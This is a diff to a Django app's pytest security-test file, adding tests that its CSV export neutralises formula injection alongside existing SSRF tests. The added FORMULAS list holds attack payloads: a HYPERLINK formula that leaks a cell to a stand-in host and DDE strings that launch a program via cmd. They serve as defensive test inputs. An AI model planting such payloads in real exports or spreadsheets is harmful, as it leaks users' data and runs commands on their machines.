@@ -1,6 +1,7 @@
 """The attacks of issue 11, each run against the app and answered safely.
 
-URL import: SSRF, DNS rebinding, error messages, deadline, page size.
+URL import (SSRF, DNS rebinding, error messages, deadline, page size) and CSV formula
+injection.
 
 No test reaches beyond this machine: a fake resolver answers every host name, and
 every `connect` goes through a guard that refuses any address but loopback (or sends
@@ -10,8 +11,11 @@ a made-up public address to a local server standing in for it).
 from __future__ import annotations
 
 import contextlib
+import csv
 import errno
+import hashlib
 import http.server
+import io
 import ipaddress
 import os
 import re
@@ -24,10 +28,14 @@ import urllib.parse
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
+import numpy as np
 import pytest
+from django.urls import reverse
 
-from compare import fetch, services
+from compare import embeddings, fetch, selectors, services
 from compare.models import Article, Outlet
+from compare.results import csv_text
+from tests.factories import make_article, make_comparison
 
 pytestmark = pytest.mark.django_db
 
@@ -459,3 +467,51 @@ def test_a_page_with_far_more_text_than_an_article_is_refused_before_extraction(
     assert extracted == []
     assert time.monotonic() - started < 5
     assert nothing_stored()
+
+
+# --- CSV formula injection ---------------------------------------------------------------------
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Read more")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def fake_encode(texts, *, name=None) -> np.ndarray:
+    """Deterministic unit vectors from the text's hash: no model, no meaning."""
+    rows = []
+    for text in texts:
+        seed = int(hashlib.sha256(text.encode()).hexdigest()[:8], 16)
+        vector = np.random.default_rng(seed).standard_normal(16).astype(np.float32)
+        rows.append(vector / np.linalg.norm(vector))
+    return np.stack(rows) if rows else np.zeros((0, 16), dtype=np.float32)
+
+
+def test_the_csv_export_neutralises_formulas(client, monkeypatch):
+    monkeypatch.setattr(embeddings, "encode", fake_encode)
+    article_a = make_article(raw="\n\n".join(FORMULAS), language="en")
+    article_b = make_article(raw="A plain sentence.\n\n=1+1", language="en")
+    comparison = make_comparison(articles=[article_a, article_b])
+    services.align_comparison(selectors.get_comparison(comparison.pk))
+    response = client.get(reverse("compare:comparison-export-csv", args=[comparison.pk]))
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    columns = ("a_text", "b_text", "facts_a", "facts_b")
+    cells = [row[column] for row in rows for column in columns if row[column]]
+    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
+    formulas = [s.text for s in article_a.sentences.all() if s.text[0] in "=+-@"]
+    assert len(formulas) >= len(FORMULAS)
+    for formula in formulas:
+        # Quoted where it starts a cell; harmless after another sentence in a link's cell.
+        assert any(
+            cell == f"'{formula}" or cell.startswith(f"'{formula} ") or f" {formula}" in cell
+            for cell in cells
+        ), formula
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_text_quotes_every_formula_start(start):
+    assert csv_text(f"{start}1") == f"'{start}1"
+    assert csv_text(f"a{start}1") == f"a{start}1"
